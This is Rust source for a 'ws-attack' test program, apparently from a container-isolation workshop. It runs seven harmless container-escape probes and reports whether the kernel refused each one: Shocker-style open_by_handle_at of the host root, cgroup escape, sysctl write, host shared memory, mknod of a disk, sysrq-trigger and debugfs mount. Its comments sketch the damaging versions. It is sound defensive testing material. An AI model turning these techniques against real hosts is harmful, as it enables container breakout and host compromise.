//! The attacks every container from here on is tried with: what root in a
//! container could do to the host through what the container still
//! shares with it. Each is harmless (it reads, or writes a value back as
//! it was, or creates and removes its own things), and each reports what
//! the kernel answered: it worked (with the evidence), or it was refused
//! (with the errno, and the call that got it).
//!
//! They run inside a container as a program, `ws-attack`: the chapter's
//! own binary, copied into a layer of the container with the libraries it
//! loads, and started under that name (see [`install_into`]).

use anyhow::{Context, Result};
use nix::errno::Errno;
use std::fmt;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::{Path, PathBuf};
use std::str::FromStr;

/// The name the chapter binary answers to as the attack program, and where
/// it is inside the container.
pub const PROGRAM: &str = "ws-attack";
pub const INSIDE: &str = "/usr/local/bin/ws-attack";

/// One attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Attack {
    /// open_by_handle_at(): open a host file by its inode number ("shocker")
    Shocker,
    /// mount cgroupfs, and move out of the container's cgroup
    CgroupEscape,
    /// write a /proc/sys setting that is the host's (its own value back)
    SysctlWrite,
    /// see the host's SysV shared memory
    HostShm,
    /// mknod a disk's device node
    Mknod,
    /// open /proc/sysrq-trigger for writing (the host's magic SysRq keys)
    Sysrq,
    /// mount a filesystem of the host's kernel
    Mount,
}

impl Attack {
    pub const ALL: [Attack; 7] = [
        Attack::Shocker,
        Attack::CgroupEscape,
        Attack::SysctlWrite,
        Attack::HostShm,
        Attack::Mknod,
        Attack::Sysrq,
        Attack::Mount,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::Shocker => "shocker",
            Attack::CgroupEscape => "cgroup-escape",
            Attack::SysctlWrite => "sysctl-write",
            Attack::HostShm => "host-shm",
            Attack::Mknod => "mknod",
            Attack::Sysrq => "sysrq",
            Attack::Mount => "mount",
        }
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Attack {
    type Err = String;
    fn from_str(s: &str) -> Result<Attack, String> {
        Attack::ALL
            .into_iter()
            .find(|a| a.name() == s)
            .ok_or_else(|| format!("no attack named {s:?}"))
    }
}

/// What the kernel answered.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    /// It worked: the evidence, in a sentence.
    Worked(String),
    /// Refused: the errno, and the call that got it.
    Refused { errno: Errno, call: String },
}

/// One line of `ws-attack`'s output: `NAME: worked: EVIDENCE` or
/// `NAME: refused: ERRNO by CALL`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Report {
    pub attack: Attack,
    pub outcome: Outcome,
}

impl fmt::Display for Report {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.outcome {
            Outcome::Worked(evidence) => write!(f, "{}: worked: {evidence}", self.attack),
            Outcome::Refused { errno, call } => {
                write!(
                    f,
                    "{}: refused: {} by {call}",
                    self.attack,
                    errno_name(*errno)
                )
            }
        }
    }
}

impl FromStr for Report {
    type Err = String;
    fn from_str(line: &str) -> Result<Report, String> {
        let (name, rest) = line
            .split_once(": ")
            .ok_or_else(|| format!("not a report: {line:?}"))?;
        let attack = name.parse()?;
        let outcome = if let Some(evidence) = rest.strip_prefix("worked: ") {
            Outcome::Worked(evidence.to_string())
        } else if let Some(refused) = rest.strip_prefix("refused: ") {
            let (errno, call) = refused
                .split_once(" by ")
                .ok_or_else(|| format!("not a refusal: {line:?}"))?;
            Outcome::Refused {
                errno: errno_from_name(errno).ok_or_else(|| format!("no errno {errno:?}"))?,
                call: call.to_string(),
            }
        } else {
            return Err(format!("not a report: {line:?}"));
        };
        Ok(Report { attack, outcome })
    }
}

/// `EPERM`: the errno's name alone, as the man pages write it.
pub fn errno_name(errno: Errno) -> String {
    format!("{errno:?}")
}

fn errno_from_name(name: &str) -> Option<Errno> {
    (1..200)
        .map(Errno::from_raw)
        .find(|e| errno_name(*e) == name)
}

/// What the attacks need to know of the host, given on the command line by
/// whoever starts them: the key of a SysV shared memory segment the host
/// made (`--shm-key`).
#[derive(Debug, Clone, Default)]
pub struct Targets {
    pub shm_key: Option<i32>,
}

/// A SysV IPC key as `ipcs` shows it (`0x5a5a0001`) or in decimal; the
/// kernel's key_t is an int, so keys from 0x80000000 up are negative.
pub fn parse_shm_key(text: &str) -> Option<i32> {
    match text.strip_prefix("0x").or_else(|| text.strip_prefix("0X")) {
        Some(hex) => u32::from_str_radix(hex, 16).ok().map(|k| k as i32),
        None => text.parse().ok(),
    }
}

/// Run one attack, in this process (inside the container).
pub fn run(attack: Attack, targets: &Targets) -> Outcome {
    let result = match attack {
        Attack::Shocker => shocker(),
        Attack::CgroupEscape => cgroup_escape(),
        Attack::SysctlWrite => sysctl_write(),
        Attack::HostShm => host_shm(targets.shm_key),
        Attack::Mknod => mknod_disk(),
        Attack::Sysrq => sysrq(),
        Attack::Mount => mount_debugfs(),
    };
    match result {
        Ok(evidence) => Outcome::Worked(evidence),
        Err(Refusal { errno, call }) => Outcome::Refused { errno, call },
    }
}

/// A call the kernel refused: its errno and the call, as the report shows them.
#[derive(Debug)]
struct Refusal {
    errno: Errno,
    call: String,
}

/// `result`, or the refusal of `call` with the errno it got.
fn called<T>(result: nix::Result<T>, call: impl Into<String>) -> Result<T, Refusal> {
    result.map_err(|errno| Refusal {
        errno,
        call: call.into(),
    })
}

/// What a std::io call got, as an errno.
fn io_called<T>(result: std::io::Result<T>, call: impl Into<String>) -> Result<T, Refusal> {
    result.map_err(|e| Refusal {
        errno: Errno::from_raw(e.raw_os_error().unwrap_or(Errno::EIO as i32)),
        call: call.into(),
    })
}

/// A path of this run's own in the container's /dev: a small tmpfs the
/// container mounted for itself (chapter 4's `populate_dev`), in every
/// chapter's container. Not /tmp: in a rootless container that is the
/// image's directory, owned by an id the user namespace does not map, and
/// the overlay cannot copy it up (EOVERFLOW) before anything is tried.
fn scratch(what: &str) -> PathBuf {
    Path::new("/dev").join(format!("ws-attack-{what}-{}", std::process::id()))
}

/// A `struct file_handle` with room for the largest handle (MAX_HANDLE_SZ).
#[repr(C)]
struct FileHandle {
    handle_bytes: u32,
    handle_type: i32,
    f_handle: [u8; 128],
}

/// FILEID_INO32_GEN: a 32-bit inode number and a 32-bit generation, the
/// handle ext2/3/4 give (include/linux/exportfs.h).
const FILEID_INO32_GEN: i32 = 1;
/// ext2/3/4's root directory is always inode 2 (EXT2_ROOT_INO), generation 0.
const EXT_ROOT_INODE: u32 = 2;

// ANCHOR: shocker
/// "Shocker" (2014, against Docker 0.11): open_by_handle_at() opens a file
/// by its handle (for ext4, an inode number and a generation), with no path
/// and so no mount in the way. The container's / is a directory of the
/// host's filesystem; the handle of that filesystem's root directory
/// (ext4: inode 2) opens the host's own root, outside the container. A
/// real attacker walks on from there to /etc/shadow, or writes. Here: list
/// a few names of that directory, read only, and close it.
fn shocker() -> Result<String, Refusal> {
    let (handle, how) = match handle_of_the_filesystems_root() {
        RootHandle::Ext4(handle, how) => (handle, how),
        RootHandle::Unknown(own) => return shocker_unknown_fs(&own),
    };
    // Any descriptor on that filesystem: the kernel decodes the handle there.
    let anchor = open_dir("/")?;
    let dir = open_by_handle(&anchor, &handle, "open_by_handle_at(inode 2)")?;
    // The descriptor's magic link leads to the directory itself, wherever it is.
    let theirs = names_in(Path::new(&format!("/proc/self/fd/{}", dir.as_raw_fd())));
    let ours = names_in(Path::new("/"));
    let mut outside: Vec<&str> = theirs
        .iter()
        .filter(|n| !ours.contains(n) && !n.starts_with('.'))
        .map(String::as_str)
        .collect();
    // The names every Linux host has first: what they show is where we are.
    const WELL_KNOWN: [&str; 6] = ["boot", "home", "root", "srv", "opt", "lost+found"];
    outside.sort_by_key(|n| (!WELL_KNOWN.contains(n), *n));
    outside.truncate(4);
    if outside.is_empty() {
        // The privilege is there, but the container's / is that whole
        // filesystem: nothing of the host's on it to reach.
        return Ok(format!(
            "opened inode 2 by handle ({how}), but it is the container's own / (it has no name that / lacks)"
        ));
    }
    Ok(format!(
        "opened inode 2, the root of the filesystem under / ({how}), outside the container, and listed: {}",
        outside.join(" ")
    ))
}
// ANCHOR_END: shocker

/// What [`shocker`] opens: the ext4 handle of inode 2 (and how it knows the
/// filesystem is ext4), or, on a filesystem it cannot address, the handle
/// of its own / as the kernel gave it.
enum RootHandle {
    Ext4(FileHandle, String),
    Unknown(FileHandle),
}

/// Ask the kernel for the handle of our own / (anyone may ask): its type
/// tells the format. A filesystem that cannot say (an overlay without
/// nfs_export, EOPNOTSUPP) gets the ext4 handle anyway: the real exploit
/// never asked, it wrote that handle by hand.
fn handle_of_the_filesystems_root() -> RootHandle {
    let mut own = FileHandle {
        handle_bytes: 128,
        handle_type: 0,
        f_handle: [0; 128],
    };
    let mut mount_id: i32 = 0;
    // SAFETY: `own` is a file_handle with handle_bytes of room after its
    // header, and mount_id an int: all the kernel writes.
    let asked = Errno::result(unsafe {
        nix::libc::syscall(
            nix::libc::SYS_name_to_handle_at,
            nix::libc::AT_FDCWD,
            c"/".as_ptr(),
            &mut own as *mut FileHandle,
            &mut mount_id as *mut i32,
            0,
        )
    });
    // One magic for ext2, ext3 and ext4.
    let ext = nix::sys::statfs::statfs("/")
        .is_ok_and(|s| s.filesystem_type() == nix::sys::statfs::EXT4_SUPER_MAGIC);
    match asked {
        Ok(_) if own.handle_type == FILEID_INO32_GEN && ext => RootHandle::Ext4(
            ext_root_handle(),
            "ext4, as name_to_handle_at(\"/\") showed".into(),
        ),
        Ok(_) => RootHandle::Unknown(own),
        Err(e) => RootHandle::Ext4(
            ext_root_handle(),
            format!(
                "name_to_handle_at(\"/\") got {}: the ext4 handle, written by hand",
                errno_name(e)
            ),
        ),
    }
}

fn ext_root_handle() -> FileHandle {
    let mut handle = FileHandle {
        handle_bytes: 8,
        handle_type: FILEID_INO32_GEN,
        f_handle: [0; 128],
    };
    handle.f_handle[..4].copy_from_slice(&EXT_ROOT_INODE.to_ne_bytes());
    handle // generation 0: the next four bytes
}

fn open_dir(path: &str) -> Result<OwnedFd, Refusal> {
    use nix::fcntl::OFlag;
    called(
        nix::fcntl::open(
            path,
            OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
            nix::sys::stat::Mode::empty(),
        ),
        format!("open({path:?})"),
    )
}

/// open_by_handle_at(anchor, handle, O_RDONLY | O_DIRECTORY).
fn open_by_handle(anchor: &OwnedFd, handle: &FileHandle, call: &str) -> Result<OwnedFd, Refusal> {
    // SAFETY: `handle` is a valid file_handle the kernel only reads.
    let fd = called(
        Errno::result(unsafe {
            nix::libc::syscall(
                nix::libc::SYS_open_by_handle_at,
                anchor.as_raw_fd(),
                handle as *const FileHandle,
                nix::libc::O_RDONLY | nix::libc::O_DIRECTORY | nix::libc::O_CLOEXEC,
            )
        }),
        call,
    )?;
    // SAFETY: the kernel just returned this descriptor to us, open and unowned.
    Ok(unsafe { OwnedFd::from_raw_fd(fd as i32) })
}

/// A filesystem whose root this tool cannot name (not ext2/3/4): open our
/// own / by its handle, which takes the same privilege, and say so.
fn shocker_unknown_fs(own: &FileHandle) -> Result<String, Refusal> {
    let anchor = open_dir("/")?;
    open_by_handle(&anchor, own, "open_by_handle_at(the handle of /)")?;
    Ok(format!(
        "opened / by its file handle (type {:#x}): the privilege is there, but this filesystem's root inode is not one this tool knows how to name",
        own.handle_type
    ))
}

/// The names in a directory, sorted (none when it cannot be read).
fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

// ANCHOR: cgroup_escape
/// Mount cgroupfs (the v1 `pids` hierarchy where there is one, else
/// cgroup2), make a cgroup of its own beside the container's (no pids.max
/// in it) and move in: out from under the container's limit. A real
/// attacker would go to the root cgroup and raise the limits of anything,
/// or use v1's release_agent to run a program as the host's root. Here the
/// new cgroup sits beside the container's, beneath the tool's (the house
/// rule: never to the root cgroup, never out of the tool's); the process
/// moves back once it has seen where it is, the cgroup and the mount go at
/// once. A container with no cgroup of its own (no limit) is in its
/// tool's: nothing to escape, and it does not move.
fn cgroup_escape() -> Result<String, Refusal> {
    let text = io_called(
        std::fs::read_to_string("/proc/self/cgroup"),
        "read /proc/self/cgroup",
    )?;
    let (fstype, options, before) = match own_cgroup(&text) {
        Some(found) => found,
        None => {
            return Err(Refusal {
                errno: Errno::ENOENT,
                call: "read /proc/self/cgroup (no pids or cgroup2 line)".into(),
            })
        }
    };
    let dir = scratch("cgroup");
    io_called(
        std::fs::create_dir(&dir),
        format!("mkdir {}", dir.display()),
    )?;
    let mounted = called(
        nix::mount::mount(
            Some("cgroup"),
            &dir,
            Some(fstype),
            nix::mount::MsFlags::empty(),
            options,
        ),
        format!("mount({fstype:?}) on {}", dir.display()),
    );
    let moved = mounted.and_then(|()| move_beside(&dir, &before));
    if Path::new(&dir).exists() {
        let _ = nix::mount::umount2(&dir, nix::mount::MntFlags::MNT_DETACH);
        let _ = std::fs::remove_dir(&dir);
    }
    moved
}
// ANCHOR_END: cgroup_escape

/// The filesystem type, mount options and path of this process's cgroup:
/// the v1 pids hierarchy (`N:pids:/path`), else cgroup2 (`0::/path`).
fn own_cgroup(proc_self_cgroup: &str) -> Option<(&'static str, Option<&'static str>, String)> {
    let mut v2 = None;
    for line in proc_self_cgroup.lines() {
        let mut fields = line.splitn(3, ':');
        let (_, controllers, path) = (fields.next()?, fields.next()?, fields.next()?);
        if controllers.split(',').any(|c| c == "pids") {
            return Some(("cgroup", Some("pids"), path.to_string()));
        }
        if controllers.is_empty() {
            v2 = Some(("cgroup2", None, path.to_string()));
        }
    }
    v2
}

/// Whether `path` is a container's own cgroup, as chapter 7 names them:
/// `/workshop/PID` (v2) or `.../workshop-PID` (v1).
pub fn is_containers_cgroup(path: &str) -> bool {
    let mut parts = path.trim_end_matches('/').rsplit('/');
    let (name, parent) = (parts.next().unwrap_or(""), parts.next().unwrap_or(""));
    name.starts_with("workshop-") || (parent == "workshop" && name.parse::<u32>().is_ok())
}

fn move_beside(mounted: &Path, before: &str) -> Result<String, Refusal> {
    if !is_containers_cgroup(before) {
        return Ok(format!(
            "mounted the host's cgroup hierarchy read-write (this process is in {before}); did not move: \
             the container has no cgroup of its own (no limit to escape), and beside its tool's is not ours to use"
        ));
    }
    let escape = format!(
        "{}/ws-escape-{}",
        before
            .trim_end_matches('/')
            .rsplit_once('/')
            .map_or("", |(p, _)| p),
        std::process::id()
    );
    let dir = mounted.join(escape.trim_start_matches('/'));
    io_called(std::fs::create_dir(&dir), format!("mkdir {escape}"))?;
    let moved = io_called(
        std::fs::write(dir.join("cgroup.procs"), "0"),
        format!("write 0 to cgroup.procs of {escape}"),
    );
    let after = cgroup_now();
    // Seen: back under the limit (moving in is never refused for a limit).
    let back = mounted
        .join(before.trim_start_matches('/'))
        .join("cgroup.procs");
    let returned = match std::fs::write(&back, "0") {
        Ok(()) if cgroup_now() == before => "and back, once seen".to_string(),
        Ok(()) => format!("moved back, but is in {}", cgroup_now()),
        Err(e) => format!("could not move back: {e}"),
    };
    let _ = std::fs::remove_dir(&dir);
    moved?;
    Ok(format!(
        "mounted cgroupfs, made {escape} (no pids.max) and moved into it: from {before} to {after} ({returned})"
    ))
}

/// This process's cgroup, as /proc/self/cgroup says now.
fn cgroup_now() -> String {
    std::fs::read_to_string("/proc/self/cgroup")
        .ok()
        .and_then(|t| own_cgroup(&t).map(|(_, _, p)| p))
        .unwrap_or_default()
}

// ANCHOR: sysctl_write
/// /proc/sys holds the kernel's settings, most of them the whole machine's
/// (not namespaced). A real attacker writes kernel.core_pattern to make the
/// host run a program of theirs as root when anything crashes. Here: read
/// vm.overcommit_ratio and write the same value back.
fn sysctl_write() -> Result<String, Refusal> {
    use std::io::Write;
    const SETTING: &str = "/proc/sys/vm/overcommit_ratio";
    let value = io_called(std::fs::read_to_string(SETTING), format!("read {SETTING}"))?;
    let mut file = io_called(
        std::fs::OpenOptions::new().write(true).open(SETTING),
        format!("open({SETTING}, O_WRONLY)"),
    )?;
    io_called(file.write_all(value.as_bytes()), format!("write {SETTING}"))?;
    Ok(format!(
        "wrote {SETTING}, a setting of the whole machine (its own value back: {})",
        value.trim()
    ))
}
// ANCHOR_END: sysctl_write

// ANCHOR: host_shm
/// SysV shared memory belongs to an IPC namespace; without one of its
/// own, the container shares the host's, and any segment the host's
/// programs made (a database's buffers) is one shmat() away, by its key. A
/// real attacker reads or changes it. Here: shmget() it, never attach.
/// With no key given, look up the first segment /proc/sysvipc/shm lists;
/// when it lists none there is nothing to find (ENOENT, without a call).
fn host_shm(key: Option<i32>) -> Result<String, Refusal> {
    let key = match key {
        Some(key) => key,
        None => match first_listed_key(
            &std::fs::read_to_string("/proc/sysvipc/shm").unwrap_or_default(),
        ) {
            Some(key) => key,
            None => {
                return Err(Refusal {
                    errno: Errno::ENOENT,
                    call: "/proc/sysvipc/shm (no segment in sight, and no --shm-key)".into(),
                })
            }
        },
    };
    // SAFETY: shmget only looks the key up (no IPC_CREAT, size 0).
    let id = called(
        Errno::result(unsafe { nix::libc::shmget(key, 0, 0) }),
        format!("shmget({key:#x})"),
    )?;
    let size = segment_size(
        &std::fs::read_to_string("/proc/sysvipc/shm").unwrap_or_default(),
        id,
    );
    Ok(format!(
        "found the host's shared memory segment with key {key:#x}: id {id}, {} bytes",
        size.map_or("?".to_string(), |s| s.to_string())
    ))
}
// ANCHOR_END: host_shm

/// The key of the first segment in /proc/sysvipc/shm that has one
/// (columns: key shmid perms size ...).
pub fn first_listed_key(table: &str) -> Option<i32> {
    table
        .lines()
        .skip(1)
        .filter_map(|l| l.split_whitespace().next()?.parse::<i32>().ok())
        .find(|k| *k != 0)
}

/// The size of segment `id`, from /proc/sysvipc/shm.
pub fn segment_size(table: &str, id: i32) -> Option<u64> {
    table.lines().skip(1).find_map(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        (f.get(1)?.parse::<i32>().ok()? == id).then(|| f.get(3)?.parse().ok())?
    })
}

// ANCHOR: mknod
/// A device node is a door to a driver: with /dev/sda (block 8:0) a real
/// attacker reads the host's disk whole, past every mount and permission.
/// Here: make the node in the container's /dev, never open it, and remove
/// it at once.
fn mknod_disk() -> Result<String, Refusal> {
    use nix::sys::stat::{makedev, mknod, Mode, SFlag};
    let node = scratch("sda");
    called(
        mknod(
            &node,
            SFlag::S_IFBLK,
            Mode::from_bits_truncate(0o600),
            makedev(8, 0),
        ),
        format!("mknod({}, S_IFBLK, 8:0)", node.display()),
    )?;
    let _ = std::fs::remove_file(&node); // at once, never opened
    Ok(format!(
        "made {}, block device 8:0 (the first disk), and removed it unopened",
        node.display()
    ))
}
// ANCHOR_END: mknod

// ANCHOR: sysrq
/// /proc/sysrq-trigger is the host's magic SysRq key: a real attacker
/// writes `b` to reboot the machine at once, or `c` to crash it. Here:
/// open it for writing, and close it without writing a byte.
fn sysrq() -> Result<String, Refusal> {
    const TRIGGER: &str = "/proc/sysrq-trigger";
    let file = io_called(
        std::fs::OpenOptions::new().write(true).open(TRIGGER),
        format!("open({TRIGGER}, O_WRONLY)"),
    )?;
    drop(file); // nothing written
    Ok(format!(
        "opened {TRIGGER} for writing (closed without writing)"
    ))
}
// ANCHOR_END: sysrq

// ANCHOR: mount
/// Some filesystems only the host's root may mount: debugfs shows the
/// kernel's internals (and lets root change some of them), and a user
/// namespace may never mount it. A real attacker looks there for kernel
/// addresses and driver knobs. Here: mount it on a directory of the container's /dev,
/// list a few names, and unmount it.
fn mount_debugfs() -> Result<String, Refusal> {
    use nix::mount::{mount, umount2, MntFlags, MsFlags};
    let dir = scratch("debugfs");
    io_called(
        std::fs::create_dir(&dir),
        format!("mkdir {}", dir.display()),
    )?;
    let mounted = called(
        mount(
            Some("debugfs"),
            &dir,
            Some("debugfs"),
            MsFlags::MS_NOSUID | MsFlags::MS_NODEV | MsFlags::MS_NOEXEC,
            None::<&str>,
        ),
        format!("mount(\"debugfs\") on {}", dir.display()),
    );
    let listed = mounted.map(|()| {
        let names = names_in(&dir);
        let _ = umount2(&dir, MntFlags::MNT_DETACH);
        names
    });
    let _ = std::fs::remove_dir(&dir);
    let names = listed?;
    Ok(format!(
        "mounted the host kernel's debugfs and listed {} entries: {}",
        names.len(),
        names.iter().take(5).cloned().collect::<Vec<_>>().join(" ")
    ))
}
// ANCHOR_END: mount

/// Whether this process was started as [`PROGRAM`] (argv[0]).
pub fn called_as_attack() -> bool {
    std::env::args_os()
        .next()
        .map(PathBuf::from)
        .and_then(|p| p.file_name().map(|n| n == PROGRAM))
        .unwrap_or(false)
}

/// `ws-attack [--shm-key K] [NAME...]` (no name: every attack): one
/// [`Report`] line each on stdout. Exit 0 when every attack was refused,
/// 1 when any worked, 2 on bad usage.
pub fn main() -> std::process::ExitCode {
    let mut targets = Targets::default();
    let mut chosen = Vec::new();
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        let parsed = match arg.as_str() {
            "--shm-key" => args
                .next()
                .and_then(|k| parse_shm_key(&k))
                .map(|k| targets.shm_key = Some(k))
                .ok_or_else(|| "--shm-key takes a number (decimal, or hex with 0x)".to_string()),
            name => name.parse().map(|a| chosen.push(a)),
        };
        if let Err(e) = parsed {
            eprintln!("{PROGRAM}: {e}");
            return std::process::ExitCode::from(2);
        }
    }
    if chosen.is_empty() {
        chosen = Attack::ALL.to_vec();
    }
    let mut any_worked = false;
    for attack in chosen {
        let outcome = run(attack, &targets);
        any_worked |= matches!(outcome, Outcome::Worked(_));
        println!("{}", Report { attack, outcome });
    }
    std::process::ExitCode::from(u8::from(any_worked))
}

/// Copy this program (the chapter binary, with the libraries it loads)
/// into `root` as [`INSIDE`]: a layer to put over a container's root, or a
/// rootfs of its own. Returns the path it wrote.
pub fn install_into(root: &Path) -> Result<PathBuf> {
    let exe = std::env::current_exe().context("failed to find this program")?;
    install(root, &exe)
}

/// Copy `program` (a chapter binary that answers to [`PROGRAM`]: a test's
/// own executable is the test harness, not the chapter) into `root` as
/// [`INSIDE`], with the libraries it loads. Returns the path it wrote.
pub fn install(root: &Path, program: &Path) -> Result<PathBuf> {
    workshop_rootfs::install_program(root, program, Path::new(INSIDE)).with_context(|| {
        format!(
            "failed to put {} into {}",
            program.display(),
            root.display()
        )
    })?;
    Ok(root.join(INSIDE.trim_start_matches('/')))
}

/// Read `ws-attack`'s output back.
pub fn parse_reports(output: &str) -> Result<Vec<Report>, String> {
    output
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(str::parse)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_report_reads_back_as_it_was_written() {
        for report in [
            Report {
                attack: Attack::Shocker,
                outcome: Outcome::Worked("read the host's /etc/hostname: box".into()),
            },
            Report {
                attack: Attack::Mount,
                outcome: Outcome::Refused {
                    errno: Errno::EPERM,
                    call: "mount(\"debugfs\")".into(),
                },
            },
        ] {
            let line = report.to_string();
            assert_eq!(line.parse::<Report>(), Ok(report), "{line}");
        }
        assert_eq!(
            Report {
                attack: Attack::SysctlWrite,
                outcome: Outcome::Refused {
                    errno: Errno::EROFS,
                    call: "open".into()
                }
            }
            .to_string(),
            "sysctl-write: refused: EROFS by open"
        );
        assert!("shocker: maybe".parse::<Report>().is_err());
    }

    #[test]
    fn every_attack_answers_to_its_name() {
        for attack in Attack::ALL {
            assert_eq!(attack.to_string().parse::<Attack>(), Ok(attack));
        }
        assert!("shock".parse::<Attack>().is_err());
    }

    #[test]
    fn a_shm_key_reads_as_ipcs_prints_it_or_in_decimal() {
        assert_eq!(parse_shm_key("0x5a5a0001"), Some(0x5a5a0001));
        assert_eq!(parse_shm_key("1234"), Some(1234));
        // key_t is an int: ipcs's 0xdeadbeef is negative to the kernel.
        assert_eq!(parse_shm_key("0xdeadbeef"), Some(0xdeadbeef_u32 as i32));
        assert_eq!(parse_shm_key("-5"), Some(-5));
        for bad in ["", "0x", "0xzz", "12abc", "0x1ffffffff"] {
            assert_eq!(parse_shm_key(bad), None, "{bad:?}");
        }
    }

    #[test]
    fn the_cgroup_to_escape_is_the_v1_pids_one_else_cgroup2() {
        let hybrid = "9:name=systemd:/\n8:pids:/ws-1/workshop-7\n4:memory:/x\n0::/\n";
        assert_eq!(
            own_cgroup(hybrid),
            Some(("cgroup", Some("pids"), "/ws-1/workshop-7".to_string()))
        );
        assert_eq!(
            own_cgroup("3:cpu,pids:/a\n"),
            Some(("cgroup", Some("pids"), "/a".to_string()))
        );
        assert_eq!(
            own_cgroup("0::/workshop/42\n"),
            Some(("cgroup2", None, "/workshop/42".to_string()))
        );
        assert_eq!(own_cgroup("4:memory:/x\n"), None);
    }

    #[test]
    fn only_a_containers_own_cgroup_is_escaped() {
        assert!(is_containers_cgroup("/ws-1/workshop-7")); // v1, beneath the tool's
        assert!(is_containers_cgroup("/workshop/7")); // v2
        assert!(!is_containers_cgroup("/user.slice/session-3.scope")); // the tool's own
        assert!(!is_containers_cgroup("/workshop")); // the v2 parent
        assert!(!is_containers_cgroup("/")); // a cgroup namespace's own root
    }

    #[test]
    fn reads_keys_and_sizes_from_proc_sysvipc_shm() {
        let table = "       key      shmid perms                  size  cpid  lpid\n\
                              0          3   600                 8192   1     1\n\
                     1515847681          7   600                 4096  10    10\n\
                    -1091576147          9   600                   16  10    10\n";
        assert_eq!(first_listed_key(table), Some(1515847681)); // key 0 is IPC_PRIVATE
        assert_eq!(segment_size(table, 7), Some(4096));
        assert_eq!(segment_size(table, 9), Some(16));
        assert_eq!(segment_size(table, 8), None);
        assert_eq!(first_listed_key("key shmid\n"), None);
    }

    #[test]
    fn the_ext4_root_handle_is_inode_2_generation_0() {
        let handle = ext_root_handle();
        assert_eq!(handle.handle_type, FILEID_INO32_GEN);
        assert_eq!(handle.handle_bytes, 8);
        assert_eq!(handle.f_handle[..8], [2, 0, 0, 0, 0, 0, 0, 0]);
    }
}
